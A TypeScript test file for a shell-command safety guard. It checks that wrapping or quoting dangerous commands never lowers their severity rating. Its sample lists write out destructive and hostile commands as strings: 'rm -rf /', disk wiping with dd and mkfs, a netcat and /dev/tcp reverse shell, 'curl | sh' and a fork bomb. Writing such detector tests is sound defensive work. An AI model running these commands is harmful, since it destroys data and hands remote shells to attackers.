// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are shell code
/** Texts are only ever judged here, never run. */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { parse as readShell } from 'unbash';
import { describe, expect, test } from 'vitest';
import { parse } from 'yaml';
import { guardCommand } from '../../../../src/guard/guard.ts';
import { judgeCommand } from '../../../../src/guard/index.ts';

const severe = (text: string) => judgeCommand(text).filter(({ severity }) => severity !== 'medium');

describe('metamorphic', { timeout: 60_000 }, () => {
  const ORDER = ['none', 'medium', 'high', 'catastrophic'];
  const worst = (text: string) => Math.max(0, ...judgeCommand(text).map(({ severity }) => ORDER.indexOf(severity)));
  const quoted = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
  const plain = [
    'rm -rf /',
    'rm -fr ~',
    'mkfs.ext4 /dev/sdz',
    'dd if=x of=/dev/sda',
    'nc -e /bin/sh 192.0.2.1 1',
    'chmod -R 777 /',
    'reboot',
    'shred /dev/sda',
  ];
  const anyText = [
    ...plain,
    'curl x | sh',
    ':(){ :|:& };:',
    'bash -i >& /dev/tcp/192.0.2.1/1 0>&1',
    'cat x > /dev/sda',
    'echo x >> /etc/passwd',
  ];
  const wrapped: Readonly<Record<string, (text: string) => string>> = {
    sudo: (t) => `sudo -u root ${t}`,
    env: (t) => `env -i A=b ${t}`,
    nohup: (t) => `nohup nice -n 5 ${t}`,
    timeout: (t) => `timeout -k 5 10 ${t}`,
    xargs: (t) => `echo | xargs -n1 ${t}`,
    exec: (t) => `exec ${t}`,
    setsid: (t) => `setsid -w stdbuf -oL ${t}`,
    flock: (t) => `flock /tmp/l ${t}`,
    strace: (t) => `strace -f -o x ${t}`,
    busybox: (t) => `busybox ${t}`,
    find: (t) => `find . -exec ${t} \\;`,
    time: (t) => `time -p ${t}`,
    path: (t) => `/usr/bin/${t}`,
    backslash: (t) => `\\${t}`,
    quotes: (t) => `${t[0]}""${t.slice(1)}`,
    variable: (t) => `x=${t.split(' ')[0]}; $x ${t.split(' ').slice(1).join(' ')}`,
    upper: (t) => t.replace(/^\w+/, (w) => w.toUpperCase()),
    background: (t) => `${t} &`,
    pipeline: (t) => `true | ${t}`,
    doas: (t) => `doas ${t}`,
    command: (t) => `command ${t}`,
  };
  const around: Readonly<Record<string, (text: string) => string>> = {
    'bash -c': (t) => `bash -lc ${quoted(t)}`,
    'sh -c twice': (t) => `sh -c ${quoted(`sh -c ${quoted(t)}`)}`,
    eval: (t) => `eval ${quoted(t)}`,
    trap: (t) => `trap ${quoted(t)} EXIT`,
    'su -c': (t) => `su - bob -c ${quoted(t)}`,
    watch: (t) => `watch -n 1 ${quoted(t)}`,
    substitution: (t) => `echo "$(${t}\n)"`,
    if: (t) => `if true; then\n${t}\nfi`,
    else: (t) => `if x; then y; else\n${t}\nfi`,
    loop: (t) => `for i in 1; do\n${t}\ndone`,
    case: (t) => `case x in x)\n${t}\n;; esac`,
    subshell: (t) => `(${t}\n)`,
    group: (t) => `{\n${t}\n}`,
    function: (t) => `f() {\n${t}\n}\nf`,
    and: (t) => `true && { ${t}\n}`,
    procsub: (t) => `cat <(${t}\n)`,
    heredoc: (t) => `bash <<'END'\n${t}\nEND\n`,
    piped: (t) => `printf '%s' ${quoted(t)} | sh`,
    default: (t) => `echo "\${x:-$(${t}\n)}"`,
    arithmetic: (t) => `echo $(( $(${t}\n) ))`,
    written: (t) => `cat > s <<'END'\n${t}\nEND\nsh s`,
  };
  test.each(Object.keys(wrapped))('%s in front of a command never weakens the finding', (name) => {
    for (const text of plain) expect([text, worst(wrapped[name]?.(text) ?? '')]).toEqual([text, worst(text)]);
  });
  test.each(Object.keys(around))('%s around a text never weakens the finding', (name) => {
    for (const text of anyText) expect([text, worst(around[name]?.(text) ?? '')]).toEqual([text, worst(text)]);
  });
  test('wrapping twice never weakens the finding', () => {
    const makers = [...Object.values(around)];
    fc.assert(
      fc.property(
        fc.constantFrom(...anyText),
        fc.constantFrom(...makers),
        fc.constantFrom(...makers),
        (text, a, b) => worst(a(b(text))) >= worst(text),
      ),
      { numRuns: 150 },
    );
  });
  test.each<readonly [string, (text: string) => string]>([
    ['echo', (t) => `echo ${quoted(t)}`],
    ['grep', (t) => `grep -qF ${quoted(t)} file`],
    ['cat', (t) => `cat <<'END'\n${t}\nEND\n`],
    ['a comment', (t) => `# ${t}`],
    ['an assignment', (t) => `x=${quoted(t)}; echo "$x"`],
    ['a test', (t) => `[[ "$x" == ${quoted(t)} ]]`],
    ['a case pattern', (t) => `case "$x" in ${quoted(t)}) exit 2;; esac`],
  ])('as data of %s it is no severe finding', (_, wrap) => {
    for (const text of anyText) expect(severe(wrap(text))).toEqual([]);
  });
});

interface Sheet {
  readonly pack?: string;
  readonly rules?: readonly { readonly id: string; readonly tests: { readonly block: readonly string[] } }[];
}

const folder = path.join(import.meta.dirname, '../../../../src/guard/rules');
const sheets = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.yaml'));
const quote = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
const RANK = ['none', 'low', 'medium', 'high', 'catastrophic'];

/** Around any text that a shell accepts. */
const AROUND: Readonly<Record<string, (text: string) => string>> = {
  'bash -c': (t) => `bash -c ${quote(t)}`,
  'sudo sh -c': (t) => `sudo sh -c ${quote(t)}`,
  'xargs sh -c': (t) => `xargs -a list -I%% sh -c ${quote(t)}`,
  'a substitution': (t) => `echo "$(${t}\n)"`,
  'if and then': (t) => `if true; then ${t}\nfi`,
  'a here-document': (t) => `bash <<'END_OF_IT'\n${t}\nEND_OF_IT\n`,
};
/** In front of one command. */
const BEFORE: Readonly<Record<string, (text: string) => string>> = {
  sudo: (t) => `sudo ${t}`,
  env: (t) => `env A=b ${t}`,
  timeout: (t) => `timeout -k 1 5 ${t}`,
  'its path': (t) => `/usr/bin/${t}`,
  'odd quotes': (t) => `${t[0]}""${t.slice(1)}`,
};
const AS_DATA: Readonly<Record<string, (text: string) => string>> = {
  echo: (t) => `echo ${quote(t)}`,
  grep: (t) => `grep -F ${quote(t)} file`,
  'a commit message': (t) => `git commit -m ${quote(t)}`,
  'a quoted here-document': (t) => `cat <<'END_OF_IT'\n${t}\nEND_OF_IT\n`,
};
/** These are the shell itself, or read their meaning from where they stand. */
const OF_THE_SHELL =
  /^(\.|alias|cd|command|declare|enable|eval|exec|export|hash|history|read|set|source|trap|typeset|unset|parallel|xargs|time)$/;

describe.each(sheets)('the examples of %s', { timeout: 120_000 }, (file) => {
  const { pack, rules = [] }: Sheet = parse(readFileSync(path.join(folder, file), 'utf8'));
  const options = { packs: pack === undefined ? [] : [pack] };
  const worstOf = (text: string) => Math.max(0, ...guardCommand(text, options).findings.map(({ severity }) => RANK.indexOf(severity)));
  const texts = rules
    .flatMap(({ tests }) => tests.block)
    .filter((text) => !readShell(text).errors?.length && !/[\u200B-\u202E]/.test(text));
  const plain = texts.filter((text) => {
    const [statement, more] = readShell(text).commands;
    const command = statement?.command;
    if (command?.type !== 'Command' || more !== undefined || statement?.background || command.prefix.length > 0) return false;
    return (
      command.name?.parts === undefined && /^[\w.-]+$/.test(command.name?.value ?? '') && !OF_THE_SHELL.test(command.name?.value ?? '')
    );
  });

  test.each(Object.keys(AROUND))('are no less severe inside %s', (name) => {
    for (const text of texts) expect([text, worstOf(AROUND[name]?.(text) ?? '') >= worstOf(text)]).toEqual([text, true]);
  });
  test.each(Object.keys(BEFORE))('are no less severe behind %s', (name) => {
    for (const text of plain) expect([text, worstOf(BEFORE[name]?.(text) ?? '') >= worstOf(text)]).toEqual([text, true]);
  });
  test.each(Object.keys(AS_DATA))('are no objection as data of %s', (name) => {
    for (const text of texts) expect([text, guardCommand(AS_DATA[name]?.(text) ?? '', options).decision]).toEqual([text, 'none']);
  });
});
